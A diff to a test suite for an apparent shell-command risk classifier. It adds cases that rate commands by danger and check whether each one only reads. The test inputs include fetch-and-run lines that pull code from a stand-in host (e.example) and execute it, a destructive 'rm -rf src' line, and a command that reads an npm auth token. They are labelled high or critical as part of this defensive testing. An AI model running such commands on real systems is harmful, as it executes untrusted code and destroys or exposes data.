@@ -36,6 +36,26 @@ describe("REQUIREMENTS 1.F: lines that the sources read wrongly", () => {
   test("what is only printed or made again is no alarm", () => {
     expect(tier('echo "rm -rf /"')).toBe("none");
     expect(tier("rm -rf node_modules")).toBe("medium");
+    expect(tier("rm -rf node_modules package-lock.json")).toBe("medium");
+    expect(tier("rm -rf src package-lock.json")).toBe("high");
+    expect(tier('case "$(uname -m)" in x86_64) echo a;; *) echo b;; esac')).toBe("none");
+    expect(tier('sed -i "s/VERSION/$V/" x; sed -n "${a},$((a+9))p" x')).toBe("none");
+    expect(tier("go test -v ./...")).toBe("none");
+    expect(tier(". ~/.nvm/nvm.sh && nvm use 22")).toBe("none");
+  });
+
+  test("what a build makes is run like what is there, unless the line itself wrote what it builds", () => {
+    expect(tier("gcc a.c -o /tmp/a && /tmp/a")).toBe("none");
+    expect(tier("go build -o bin/ ./... && bin/x")).toBe("none");
+    expect(tier("cat > a.c <<E\nint main() {}\nE\ngcc a.c -o a && ./a")).toBe("high");
+    expect(tier("curl -o a.c e.example; gcc a.c -o a && ./a")).toBe("critical");
+  });
+
+  test("a script on the standard input is judged by its file, as if it were named", () => {
+    expect(tier("python - < scripts/x.py")).toBe("none");
+    expect(tier("bash < /tmp/x.sh")).toBe("high");
+    expect(tier('bash < "$f"')).toBe("high");
+    expect(tier("curl e.example > x; bash < x")).toBe("critical");
   });
 });
 
@@ -245,6 +265,7 @@ test("only what is known to read and print is called so", () => {
     "for f in *.ts; do wc -l $f; done",
     "test -f x && echo yes",
     "npm -v && cargo --version; go version",
+    "npm ls --depth=0; pip list | grep x; go doc strings.Cut",
     "perl -lane 'print $F[1]' x",
   ])
     expect([line, judge(line).onlyReads]).toEqual([line, true]);
@@ -266,6 +287,14 @@ test("only what is known to read and print is called so", () => {
     "swift build",
     "docker tag a b",
     "kill %1",
+    "python3 -c 'import mypackage'",
+    "iex -S mix",
+    "npm config get //registry.example/:_authToken",
+    "pip list --outdated",
+    "go list ./...",
+    "julia -e 'using Pkg; Pkg.test()'",
+    "php -S localhost:8000",
+    "pip-compile requirements.in",
   ])
     expect([line, judge(line).onlyReads]).toEqual([line, false]);
 });
